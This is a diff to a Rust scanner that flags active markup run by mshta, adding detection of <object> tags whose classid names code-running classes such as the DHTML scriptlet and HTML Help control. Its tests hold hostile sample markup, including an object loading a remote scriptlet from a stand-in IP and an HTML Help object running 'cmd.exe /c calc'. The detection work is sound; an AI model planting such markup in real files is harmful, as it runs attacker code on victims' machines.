@@ -26,8 +26,9 @@ pub const MAX_MARKUP_CANDIDATES: usize = 4096;
 /// What opens a candidate; each is confirmed by what surrounds it. `:script` is a script
 /// element with a namespace prefix (`<svg:script>`, `<x:script>`), which XHTML and SVG
 /// documents and Internet Explorer's engine (mshta's) run as `<script>`; the MIME types
-/// are an `<object>` of a scriptlet, which that engine loads and runs.
-const NEEDLES: [&str; 7] = [
+/// are an `<object>` of a scriptlet, which that engine loads and runs; `clsid:` names the
+/// class of an `<object>` (the scriptlet's class among [`ACTIVE_CLASS_IDS`]).
+const NEEDLES: [&str; 8] = [
     "<script",
     "<hta:application",
     "script:",
@@ -35,7 +36,32 @@ const NEEDLES: [&str; 7] = [
     ":script",
     "/scriptlet",
     "/x-scriptlet",
+    "clsid:",
 ];
+
+/// Classes an `<object classid="clsid:…">` instantiates that run code on their own when
+/// mshta (Internet Explorer's engine) renders the page, with no `<script>` of the page:
+/// the DHTML scriptlet (what `type="text/x-scriptlet"` names: it loads and runs the
+/// scriptlet of its `data`/`url`), the HTML Help control (its `ShortCut` command runs the
+/// program its `Item1` names), the Flash player and the Java plug-in (run the movie's or
+/// the applet's code). Classes a script drives (`WScript.Shell`, `Shell.Application`)
+/// run nothing without a script, which is found as such.
+const ACTIVE_CLASS_IDS: [(&[u8; 36], &str); 4] = [
+    (
+        b"ae24fdae-03c6-11d1-8b76-0080c744f389",
+        "the DHTML scriptlet",
+    ),
+    (
+        b"adb880a6-d8ff-11cf-9377-00aa003b7a11",
+        "the HTML Help control",
+    ),
+    (b"d27cdb6e-ae6d-11cf-96b8-444553540000", "the Flash player"),
+    (b"8ad9c840-044e-11d1-b3e9-00805f499d93", "the Java plug-in"),
+];
+
+/// The versioned class ids of the Java plug-in (`CAFEEFAC-00VV-000U-00UU-ABCDEFFEDCBA`):
+/// each runs an applet.
+const JAVA_PLUGIN_CLASS_PREFIX: &[u8] = b"cafeefac-";
 
 /// How far back from a scriptlet MIME type the `<object` of its tag is looked for.
 const SCRIPTLET_TAG_BYTES: usize = 1024;
@@ -511,6 +537,9 @@ fn confirm_needle(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<Stri
             excerpt(&back[open..])
         ));
     }
+    if let Some(rest) = lower.strip_prefix(b"clsid:") {
+        return active_class_object(text, rest, &before(SCRIPTLET_TAG_BYTES));
+    }
     if lower.starts_with(b"<hta:application") {
         return Some(
             "an <hta:application> tag: mshta runs this file as an HTML application".to_owned(),
@@ -535,6 +564,62 @@ fn confirm_needle(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<Stri
         }
     }
     None
+}
+
+/// `clsid:` (at the start of `text`, `rest` after it in lower case) as the value of the
+/// `classid` attribute of an `<object>` tag still open in `back` (the bytes before it),
+/// naming one of [`ACTIVE_CLASS_IDS`]: an alert naming the class. The GUID may be written
+/// in braces and in any case, the attribute name in any case and spaced from its `=`,
+/// its value quoted or not, as the HTML tokenizer reads attributes.
+fn active_class_object(text: &[u8], rest: &[u8], back: &[u8]) -> Option<String> {
+    let guid = rest.trim_ascii_start();
+    let guid = guid.strip_prefix(b"{").unwrap_or(guid);
+    let guid = guid.get(..36)?;
+    let class = ACTIVE_CLASS_IDS
+        .iter()
+        .find(|(id, _)| guid == id.as_slice())
+        .map(|(_, name)| *name)
+        .or_else(|| {
+            let hex = guid.iter().enumerate().all(|(i, b)| {
+                if matches!(i, 8 | 13 | 18 | 23) {
+                    *b == b'-'
+                } else {
+                    b.is_ascii_hexdigit()
+                }
+            });
+            (hex && guid.starts_with(JAVA_PLUGIN_CLASS_PREFIX)).then_some("the Java plug-in")
+        })?;
+    let back = back.to_ascii_lowercase();
+    let value = back
+        .strip_suffix(b"\"")
+        .or(back.strip_suffix(b"'"))
+        .unwrap_or(&back);
+    let value = value.trim_ascii_end().strip_suffix(b"=")?.trim_ascii_end();
+    let tag_start = value.strip_suffix(b"classid")?;
+    if !tag_start
+        .last()
+        .is_some_and(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'/'))
+    {
+        return None;
+    }
+    let open = memchr::memmem::rfind(tag_start, b"<object")?;
+    if memchr::memchr(b'>', &tag_start[open..]).is_some()
+        || !tag_start
+            .get(open + 7)
+            .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/')
+    {
+        return None;
+    }
+    let tag = &back[open..];
+    let mut shown = tag[..tag.len().min(64)].to_vec();
+    if tag.len() > 64 {
+        shown.extend_from_slice(b"... ");
+    }
+    shown.extend_from_slice(&text[..text.len().min(6 + 38)]);
+    Some(format!(
+        "an <object> of {class} (\"{}\"): Internet Explorer's engine, which mshta uses, instantiates it and it runs code when the file is rendered as HTML",
+        escape_bytes(&shown)
+    ))
 }
 
 enum Verdict {
@@ -960,6 +1045,42 @@ mod tests {
             b"<object type=\"text/x-scriptlets\">",
             b"<object width=1>type=\"text/x-scriptlet\"",
             b"text/x-scriptlet is a MIME type",
+        ] {
+            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
+        }
+    }
+
+    /// Session 11: an `<object>` naming the scriptlet's class by its id (what
+    /// `type="text/x-scriptlet"` names by MIME type) ran the scriptlet in mshta and got
+    /// no alert; nor did the other classes that run code with no script of the page.
+    /// Found in any case and spacing, braces or not, quoted or not, in UTF-16 too.
+    #[test]
+    fn objects_of_active_classes_named_by_class_id_run() {
+        for markup in [
+            &b"\x00\x01<object classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\" data=\"http://203.0.113.7/a.sct\"></object>"[..],
+            b"<OBJECT CLASSID = 'CLSID:ae24fdae-03c6-11d1-8b76-0080c744f389' width=0>",
+            b"<object\nwidth=0\nclassid=clsid:{AE24FDAE-03C6-11D1-8B76-0080C744F389}>",
+            b"<object/classid=\"clsid:Ae24FdAe-03C6-11d1-8B76-0080c744F389\">",
+            b"<object id=x classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\"><param name=\"Command\" value=\"ShortCut\"><param name=\"Item1\" value=\",cmd.exe,/c calc\"></object>",
+            b"<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\"><param name=movie value=x.swf>",
+            b"<object classid=\"clsid:8AD9C840-044E-11D1-B3E9-00805F499D93\">",
+            b"<object classid=\"clsid:CAFEEFAC-0017-0000-0045-ABCDEFFEDCBA\">",
+        ] {
+            let found = find_markup(markup).expect("found");
+            assert_eq!(found.severity, Severity::Alert, "{found:?}");
+            assert!(found.detail.contains("an <object> of"), "{}", found.detail);
+            let wide: Vec<u8> = markup.iter().flat_map(|&b| [b, 0]).collect();
+            assert!(find_active_markup(&wide).is_some(), "UTF-16 {found:?}");
+        }
+        for text in [
+            // A class a script drives (WScript.Shell) runs nothing on its own.
+            &b"<object classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>"[..],
+            b"The scriptlet class is clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389.",
+            b"<embed classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\">",
+            b"<object width=1>classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\"",
+            b"<object classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F38\">",
+            b"<object xclassid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\">",
+            b"<object classid=\"clsid:CAFEEFAC-zz17-0000-0045-ABCDEFFEDCBA\">",
         ] {
             assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
         }
